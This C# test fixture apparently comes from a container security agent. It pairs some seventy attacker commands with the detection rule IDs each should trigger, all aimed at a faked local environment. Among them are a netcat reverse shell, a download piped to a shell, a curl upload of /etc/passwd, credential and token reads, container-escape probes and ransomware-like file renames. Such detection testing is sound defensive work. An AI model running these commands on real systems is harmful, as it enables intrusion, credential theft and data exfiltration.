// SPDX-License-Identifier: Apache-2.0
using NodeAgent.Events.Syscalls;

namespace NodeAgent.Tests.Agent;

/// <summary>What an attacker does in a container, each with the rules that have to tell of it. For the shell of busybox, which executes its own commands only where they have a path.</summary>
internal static class Attacks
{
    /// <summary>Nobody's here: it is an address of the container's own loopback.</summary>
    public const string Foreign = "93.184.216.34";

    private static readonly string Userfaultfd = $"perl -e 'syscall({SyscallNames.NumberOf(SyscallNames.Native, "userfaultfd")}, 1)'";

    /// <summary>Before all else.</summary>
    public const string Stage = $"""
        ip link set lo up; ip addr add {Foreign}/32 dev lo; ip addr add 169.254.169.254/32 dev lo; ip route add local 93.184.217.0/24 dev lo
        mkdir -p /opt /srv /root/.ssh /root/.aws /root/.config/chromium/Default /var/log /etc/cron.d /etc/systemd/system /etc/pam.d /etc/sudoers.d /etc/kubernetes/manifests
        mkdir -p /run/secrets/kubernetes.io/serviceaccount /var/lib/kubelet/pods/1/volumes/kubernetes.io~projected/t /dev/cpu/0 /tmp/cg /tmp/.x /tmp/... /data
        ln -s /run /var/run
        for f in /root/.ssh/id_ed25519 /root/.aws/credentials /run/secrets/kubernetes.io/serviceaccount/token /var/lib/kubelet/pods/1/volumes/kubernetes.io~projected/t/token; do echo secret > $f; done
        echo secret > '/root/.config/chromium/Default/Login Data'; : > /dev/cpu/0/msr; : > /tmp/cg/release_agent; echo 'root:x:0:0::/root:/bin/ash' > /etc/passwd
        cp /bin/busybox /srv/true; httpd -p {Foreign}:8080 -h /srv
        """;

    public static IReadOnlyList<(string Rules, string Command)> All { get; } =
    [
        ("NA-0101 NA-0102", $"(sleep 2 | /bin/nc -l -p 4444) & sleep 0.5; /bin/nc {Foreign} 4444 -e /bin/ash"),
        ("NA-0103", $"bash -c 'exec 5<>/dev/tcp/{Foreign}/8080'"),
        ("NA-0201", "cp /usr/bin/bash /opt/nginx; /opt/nginx -c '/bin/ash -c true; true'"),
        ("NA-0202", "cp /usr/bin/bash /opt/postgres; /opt/postgres -c '/bin/ash -c true; true'"),
        ("NA-0203", "cp /usr/bin/bash /opt/java; /opt/java -c '/bin/ash -c true; true'"),
        ("NA-0301", "cp /bin/busybox /opt/apk; /opt/apk add nmap"),
        ("NA-0302", "cp /bin/busybox /opt/gcc; /opt/gcc -o x x.c"),
        ("NA-0401", $"ash -c 'wget -qO- http://{Foreign}:8080/none | ash'"),
        ("NA-0402", $"wget -O /opt/true http://{Foreign}:8080/true; chmod +x /opt/true; /opt/true"),
        ("NA-0403", "cp /bin/busybox /tmp/true; chmod 0700 /tmp/true; chmod +x /tmp/true; /tmp/true"),
        ("NA-0501", ": > /root/.bash_history; rm /root/.bash_history"),
        ("NA-0502", ": > /var/log/auth.log"),
        ("NA-0503", ": > /var/log/x; /bin/shred /var/log/x"),
        ("NA-0601 NA-0602", "cat /root/.aws/credentials"),
        ("NA-0603", "cat /root/.ssh/id_ed25519"),
        ("NA-0604", "cat '/root/.config/chromium/Default/Login Data'"),
        ("NA-0701", "cat /run/secrets/kubernetes.io/serviceaccount/token"),
        ("NA-0702", "cat /var/lib/kubelet/pods/1/volumes/kubernetes.io~projected/t/token"),
        ("NA-0801 NA-0802", "nc -w 1 169.254.169.254 80"),
        ("NA-0901", "/bin/true -o stratum+tcp://pool.example:4444"),
        ("NA-0902", $"nc -w 1 {Foreign} 14444"),
        ("NA-0903", $"timeout 1 nslookup gulf.moneroocean.stream {Foreign}"),
        ("NA-0904", ": >> /dev/cpu/0/msr"),
        ("NA-1001", ": >> /proc/sys/kernel/core_pattern"), // opened, nothing is written
        ("NA-1002", ": >> /tmp/cg/release_agent"),
        ("NA-1003 NA-1011", "mkdir /tmp/cg2; mount -t cgroup2 none /tmp/cg2; umount /tmp/cg2"),
        ("NA-1004", "mount -t ext4 /dev/none /mnt"),
        ("NA-1005", "curl -m 1 --unix-socket /shared/docker.sock http://x/"),
        ("NA-1007", "/bin/nsenter -m -t $$ true"),
        ("NA-1008", "mknod /dev/sdz b 8 400; cat /dev/sdz"),
        ("NA-1009", ": >> /proc/sys/kernel/randomize_va_space"),
        ("NA-1010", "echo x > /hostroot/x"),
        ("NA-1012", "chroot /hostroot /bin/none"),
        ("NA-1101", "echo x > /etc/cron.d/x"),
        ("NA-1102", "echo x > /etc/systemd/system/x.service"),
        ("NA-1103", "echo x >> /root/.bashrc"),
        ("NA-1104", "echo x >> /root/.ssh/authorized_keys"),
        ("NA-1105", ": > /etc/ld.so.preload.new; mv /etc/ld.so.preload.new /etc/ld.so.preload"),
        ("NA-1106", "echo x > /etc/pam.d/sshd"),
        ("NA-1107", "cp /bin/busybox /opt/b; chmod u+s /opt/b"),
        ("NA-1108", "cp /bin/busybox /opt/c; setcap cap_net_raw+ep /opt/c"),
        ("NA-1109", "/usr/sbin/useradd --help"),
        ("NA-1110", "echo 'x::0:0::/:/bin/ash' >> /etc/passwd"),
        ("NA-1111", "echo x > /etc/kubernetes/manifests/x.yaml"),
        ("NA-1112", "echo x > /etc/sudoers.d/x"),
        ("NA-1201", "sleep 3 & exec 7<>/proc/$!/mem"),
        ("NA-1202", "bash -c \"exec -a '[kworker/0:1]' /usr/bin/bash -c :\""),
        ("NA-1203", "cp /bin/busybox /tmp/.../true; /tmp/.../true"),
        ("NA-1204", "cp /bin/busybox /tmp/.x/true; /tmp/.x/true"),
        ("NA-1205", "/bin/touch -r /bin/busybox /etc/passwd"),
        ("NA-1206", "ash -c 'unset HISTFILE; true'"),
        ("NA-1207", "kill -TERM $(cat /shared/auditd.pid)"),
        ("NA-1208", "pkill -0 falco"),
        ("NA-1209", "cp /bin/busybox /opt/rm; /opt/rm /opt/rm"),
        ("NA-1302", "cp /usr/bin/bash /opt/rootbash; chmod u+s /opt/rootbash; /usr/bin/setpriv --reuid 1000 --clear-groups /bin/ash -c '/opt/rootbash -p -c :; true'"),
        ("NA-1304", "/usr/bin/unshare -U /bin/true"),
        ("NA-1305", "su -c true root"),
        ("NA-1306", "cp /bin/busybox /opt/sudo; /opt/sudo -u#-1 id"),
        ("NA-1401", "for one in id whoami uname ps netstat mount df hostname w uptime free; do /bin/$one; done"),
        ("NA-1402", $"for p in $(seq 100 125); do nc -w 1 {Foreign} $p; done"),
        ("NA-1403", "for a in $(seq 1 24); do nc -w 1 93.184.217.$a 6379; done"),
        ("NA-1404", "cp /bin/busybox /opt/nmap; /opt/nmap -sS 10.0.0.0/8"),
        ("NA-1501", "/usr/bin/ssh -V"),
        ("NA-1502", "for a in $(seq 1 6); do nc -w 1 93.184.217.$a 22; done"),
        ("NA-1503", "cp /bin/busybox /opt/kubectl; /opt/kubectl exec db-0 -- sh"),
        ("NA-1504", $"nc -w 1 {Foreign} 10250"),
        ("NA-1601", $"for i in $(seq 10 27); do timeout 1 nslookup ${{i}}aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.t.example.com {Foreign} & done; wait"),
        ("NA-1602", $"for i in $(seq 10 21); do timeout 1 nslookup xjq7h2kfw${{i}}pzq.com {Foreign} & done; wait"),
        ("NA-1603", $"timeout 1 nslookup x7.oast.fun {Foreign}"),
        ("NA-1701", $"(sleep 8 | /bin/nc -l -p 9000 >/dev/null) & sleep 0.5; head -c 110000000 /dev/zero | nc -w 5 {Foreign} 9000"),
        ("NA-1702", $"curl -m 1 -T /etc/passwd http://{Foreign}:1/"),
        ("NA-1801", Userfaultfd),
        ("NA-1901", "cd /data; for i in $(seq 1 30); do : > $i.pdf; mv $i.pdf $i.pdf.locked; done"),
        ("NA-1902", "touch /data/HOW_TO_DECRYPT.txt"),
        ("NA-1903", "cp /bin/busybox /opt/openssl; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do /opt/openssl enc -aes-256-cbc -in $i; done"),
    ];

    /// <summary>What a workload that is well does all day, and did while it was learned.</summary>
    public const string Ordinary = """
        ip link set lo up; mkdir -p /tmp/work /var/log
        while true; do
          date > /tmp/work/now; cat /etc/passwd /tmp/work/now > /tmp/work/all; mv /tmp/work/all /tmp/work/kept; sed -i s/a/b/ /tmp/work/kept; rm /tmp/work/now
          echo line >> /var/log/app.log; chmod 0755 /tmp/work/kept; ln -sf /tmp/work/kept /tmp/work/link; tar cf /tmp/work/x.tar /tmp/work/kept; gzip -f /tmp/work/x.tar
          id > /dev/null; uname > /dev/null; ps > /dev/null; find /tmp/work > /dev/null; sleep 0.2
        done
        """;
}
